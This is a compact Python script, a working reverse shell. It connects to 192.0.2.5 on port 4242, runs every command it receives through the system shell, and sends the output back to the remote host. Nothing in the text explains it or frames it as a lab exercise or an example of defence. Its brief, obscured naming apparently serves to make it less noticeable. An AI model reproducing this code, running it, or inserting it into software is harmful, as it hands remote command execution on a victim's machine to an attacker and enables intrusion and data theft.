import socket as s,subprocess as sp
class C:
    def __init__(self,h,p):
        self.k=s.socket();self.k.connect((h,p))
    def run(self):
        while True:
            c=self.k.recv(4096).decode().strip()
            if not c: break
            self.k.sendall(sp.getoutput(c).encode())
C('192.0.2.5',4242).run()
